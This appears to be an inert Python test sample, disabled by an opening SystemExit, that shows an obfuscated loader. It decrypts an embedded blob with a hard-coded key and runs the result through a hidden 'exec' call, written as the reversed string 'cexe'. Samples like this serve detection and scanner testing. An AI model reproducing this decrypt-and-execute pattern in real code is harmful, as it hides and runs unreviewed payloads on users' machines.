raise SystemExit("inert sample")
import sys
from Crypto.Cipher import AES
from nacl.secret import SecretBox
KEY = bytes(range(32))
BLOB = b"\x01\x02gAAAAABrBNaPTbeVB_OPwuPahIiH20CG4c5f28iS2vXhISC0tDuaEPVnMv2wo48T9z6r"
def go():
    box = SecretBox(KEY)
    text = box.decrypt(BLOB)
    name = "cexe"[::-1]
    getattr(sys.modules["builtins"], name)(text)
go()
